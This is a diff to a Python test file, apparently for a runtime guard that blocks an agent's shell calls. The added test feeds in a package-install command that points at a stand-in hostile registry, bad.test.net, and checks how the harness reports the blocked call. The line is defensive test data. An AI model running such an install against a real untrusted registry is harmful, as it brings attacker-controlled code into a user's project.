@@ -237,6 +237,11 @@ async def test_our_runtime_guards_a_call_in_its_shadow_first_and_acts_once_a_per
     worth = Worth.from_json((await load_wrapper(database)).body["worth"])
     assert (worth.prevented, worth.wrong, worth.corrected) == (2, 0, 1)
 
+    ((arguments, told),) = await drive(database, [bash], "wrap pnpm add x --registry http://bad.test.net")
+    assert "bad.test.net" in arguments  # a hostile call is neither changed nor told without its wrapper
+    assert "[harness: `wrap pnpm …` always fails (" in told
+    assert "bad.test.net" not in told
+
 
 async def test_a_precondition_runs_first_where_its_tool_may_run_again_and_a_guard_that_errs_stops(
     database: Database, clock: FrozenClock, settings: Settings
